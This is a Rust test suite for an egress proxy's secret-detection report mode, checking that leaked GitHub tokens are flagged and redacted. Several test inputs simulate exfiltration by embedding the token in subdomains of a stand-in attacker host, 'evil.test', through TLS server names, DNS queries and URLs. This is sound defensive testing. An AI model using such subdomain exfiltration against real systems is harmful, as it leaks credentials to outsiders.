//! `[dlp] action = "report"` in a tunnel (docs/reference/dlp.md, "Secret detectors"):
//! a detector's match in a `CONNECT` tunnel's first bytes goes through to the origin
//! and is recorded `egress.flagged` with its `dlp` object, never the value; one in a
//! server name the tunnel would refuse anyway is the reason recorded, and the name is
//! not. A DNS query name carrying one is answered as its policy says and recorded
//! `egress.flagged`, its name `[redacted]`.

use std::time::Duration;

use hickory_proto::op::ResponseCode;
use hickory_proto::rr::RecordType;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::canaries::client_hello;
use super::detectors::{dlp_records, start, GITHUB};
use crate::support::client::connect_via_proxy;
use crate::support::dns::DnsServer;
use crate::support::dns_client::{dns_listener, UdpClient};
use crate::support::org::{allowlist_json, Org};
use crate::support::proxy::{Proxy, ProxyBuilder};

/// Open a tunnel to `allowed.test:PORT`, send `first`, and give the origin's first
/// answer bytes as text, or `None` when the proxy closed the tunnel.
async fn tunnel(proxy: &Proxy, port: u16, first: &[u8]) -> Option<String> {
    let target = format!("allowed.test:{port}");
    let (answer, conn) = connect_via_proxy(proxy.addr, &target, &[]).await;
    assert_eq!(answer.status, 200, "the tunnel opens: {}", answer.text());
    let mut stream = conn.into_stream();
    stream.write_all(first).await.unwrap();
    let mut buf = [0u8; 256];
    match tokio::time::timeout(Duration::from_secs(5), stream.read(&mut buf)).await {
        Ok(Ok(n)) if n > 0 => Some(String::from_utf8_lossy(&buf[..n]).into_owned()),
        other => {
            assert!(other.is_ok(), "neither closed nor answered");
            None
        }
    }
}

#[tokio::test]
async fn report_lets_a_secret_in_a_tunnels_first_bytes_through_and_records_it_flagged() {
    let policy = allowlist_json(&["allowed.test"]);
    let (sink, proxy) = start("report", "tunnel-report", &policy).await;
    // The control first: the same bytes without the token go through unflagged (the
    // one record below is the token's).
    let clean = "GET /?k=nothing HTTP/1.1\r\nHost: allowed.test\r\n\r\n";
    let answer = tunnel(&proxy, sink.port(), clean.as_bytes()).await;
    assert!(answer.is_some_and(|a| a.starts_with("HTTP/1.1 200")));
    // A plain-HTTP request sent down an opaque tunnel: its first bytes carry the token.
    let first = format!("GET /?k={GITHUB} HTTP/1.1\r\nHost: allowed.test\r\n\r\n");
    let answer = tunnel(&proxy, sink.port(), first.as_bytes()).await;
    assert!(
        answer
            .as_deref()
            .is_some_and(|a| a.starts_with("HTTP/1.1 200")),
        "went through: {answer:?} {}",
        proxy.diagnostics()
    );
    assert!(sink.holds(GITHUB.as_bytes()), "the origin got it whole");
    let flagged = dlp_records(&proxy, "egress.flagged", 1).await;
    assert_eq!(flagged.len(), 1, "one record: {}", proxy.diagnostics());
    let record = &flagged[0];
    assert_eq!(record["reason"], "secret_detected", "{record}");
    assert_eq!(record["policy_level"], "dlp", "{record}");
    assert_eq!(record["method"], "CONNECT", "{record}");
    let dlp = &record["dlp"];
    assert_eq!(
        (dlp["id"].as_str(), dlp["kind"].as_str()),
        (Some("github_token"), Some("detector"))
    );
    assert_eq!(
        (dlp["encoding"].as_str(), dlp["found_in"].as_str()),
        (Some("plain"), Some("first_bytes"))
    );
    assert!(record.get("url").is_none(), "{record}");
    let metrics = proxy.admin().metrics().await;
    let line = "egress_dlp_matches_total{detector=\"github_token\",action=\"report\"} 1";
    assert!(metrics.contains(line), "{metrics}");
    super::shown::assert_never_shown(&proxy, &[GITHUB], &[]).await;
}

#[tokio::test]
async fn report_mode_names_the_secret_not_a_mismatching_server_name_that_carries_it() {
    let policy = allowlist_json(&["allowed.test"]);
    let (sink, proxy) = start("report", "sni-report", &policy).await;
    let lower = GITHUB.to_ascii_lowercase();
    // The control: a server name that is not the tunnel's host is `sni_mismatch`.
    assert_eq!(
        tunnel(&proxy, sink.port(), &client_hello("other.test")).await,
        None
    );
    proxy
        .wait_audit(|r| r["reason"] == "sni_mismatch", Duration::from_secs(5))
        .await;
    let hello = client_hello(&format!("{lower}.evil.test"));
    assert_eq!(tunnel(&proxy, sink.port(), &hello).await, None, "refused");
    let refused = dlp_records(&proxy, "egress.denied", 1).await;
    assert_eq!(refused.len(), 1, "{}", proxy.diagnostics());
    assert_eq!(refused[0]["reason"], "secret_detected", "{}", refused[0]);
    assert_eq!(refused[0]["dlp"]["found_in"], "sni", "{}", refused[0]);
    assert!(sink.bytes().is_empty(), "nothing reached the origin");
    assert!(!proxy.audit_text().contains(&lower) && !proxy.stderr().contains(&lower));
}

#[tokio::test]
async fn report_answers_a_dns_name_carrying_a_secret_and_records_it_flagged_without_the_name() {
    let org = Org::new()
        .allow("allowed.test")
        .allow("*.allowed.test")
        .raw_line("[dlp]\ndetectors = [\"github_token\"]\naction = \"report\"");
    // Never asked: the DNS listener answers from the policy alone.
    let upstream = DnsServer::builder().start().await;
    let proxy = ProxyBuilder::new(org.to_toml())
        .dns_server(upstream.addr())
        .policy(allowlist_json(&["allowed.test", "*.allowed.test"]))
        .arg("--dns-listen")
        .arg("127.0.0.1:0")
        .admin("events-token")
        .start()
        .await;
    let mut client = UdpClient::new(dns_listener(&proxy)).await;
    let lower = GITHUB.to_ascii_lowercase();
    // Allowed, and carrying a token: answered as allowed, and flagged.
    let carrying = format!("{lower}.allowed.test.");
    let answered = client.query(&carrying, RecordType::A).await;
    assert_eq!(answered.response_code(), ResponseCode::NoError);
    assert_eq!(answered.answers().len(), 1, "its synthetic address");
    let flagged = dlp_records(&proxy, "egress.flagged", 1).await;
    assert_eq!(flagged.len(), 1, "{}", proxy.diagnostics());
    let record = &flagged[0];
    assert_eq!(record["reason"], "secret_detected", "{record}");
    assert_eq!(record["via"], "dns", "{record}");
    assert_eq!(record["host"], "[redacted]", "{record}");
    assert_eq!(record["dlp"]["id"], "github_token", "{record}");
    assert_eq!(record["dlp"]["found_in"], "dns", "{record}");
    // Not allowed either: refused, and the secret is the reason, not the name.
    let refused = client
        .query(&format!("{lower}.evil.test."), RecordType::A)
        .await;
    assert_eq!(refused.response_code(), ResponseCode::Refused);
    let denied = dlp_records(&proxy, "egress.denied", 1).await;
    assert_eq!(denied.len(), 1, "{}", proxy.diagnostics());
    assert_eq!(denied[0]["reason"], "secret_detected", "{}", denied[0]);
    assert_eq!(denied[0]["host"], "[redacted]", "{}", denied[0]);
    // The control: a name without one is answered and flags nothing.
    let plain = client.query("www.allowed.test.", RecordType::A).await;
    assert_eq!(plain.response_code(), ResponseCode::NoError);
    let metrics = proxy.admin().metrics().await;
    let line = "egress_dlp_matches_total{detector=\"github_token\",action=\"report\"} 1";
    assert!(metrics.contains(line), "{metrics}");
    assert!(upstream.queried_names().is_empty());
    super::shown::assert_never_shown(&proxy, &[GITHUB], &[]).await;
}

#[tokio::test]
async fn report_mode_records_a_name_carrying_a_secret_by_the_secret_when_refused_anyway() {
    let policy = allowlist_json(&["allowed.test"]);
    let (sink, proxy) = start("report", "refused-anyway", &policy).await;
    let lower = GITHUB.to_ascii_lowercase();
    // Not allowed: refused whatever the detector says, and the token is the reason
    // recorded, so neither the record nor the answer names the host that carries it.
    let url = format!("http://{lower}.evil.test:{}/", sink.port());
    let answer = crate::support::client::get_via_proxy(proxy.addr, &url, &[]).await;
    assert_eq!(answer.status, 403, "{}", answer.text());
    assert_eq!(answer.json()["error"]["reason"], "secret_detected");
    let denied = dlp_records(&proxy, "egress.denied", 1).await;
    assert_eq!(denied.len(), 1, "{}", proxy.diagnostics());
    assert_eq!(denied[0]["host"], "[redacted]", "{}", denied[0]);
    assert_eq!(denied[0]["dlp"]["found_in"], "target", "{}", denied[0]);
    assert!(sink.bytes().is_empty());
    super::shown::assert_never_shown(&proxy, &[GITHUB], &[answer.text()]).await;
}
